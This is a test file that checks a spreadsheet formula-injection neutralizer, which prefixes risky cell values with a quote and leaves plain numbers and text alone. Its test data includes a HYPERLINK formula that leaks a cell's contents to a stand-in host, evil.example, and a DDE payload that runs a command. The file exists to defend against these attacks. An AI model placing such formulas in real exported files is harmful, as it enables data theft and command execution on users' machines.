import { describe, expect, test } from 'vitest';
import { isFormulaLike, neutralizeFormula } from '../../src/lib/formula-cells.ts';

describe('neutralizeFormula', () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', `'=HYPERLINK("http://evil.example/?x="&A1,"点击")`],
    ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(1,2)', `'@SUM(1,2)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['+86 138 0000 0000', `'+86 138 0000 0000`],
  ])('neutralises %j', (cell, expected) => {
    expect(isFormulaLike(cell)).toBe(true);
    expect(neutralizeFormula(cell)).toBe(expected);
  });

  test.each(['-3.5', '+12', '1e5', '-0.25', '青石社区', '', '2019', '党员3人以上', ' =1'])('keeps %j as it is', (cell) => {
    expect(isFormulaLike(cell)).toBe(false);
    expect(neutralizeFormula(cell)).toBe(cell);
  });
});
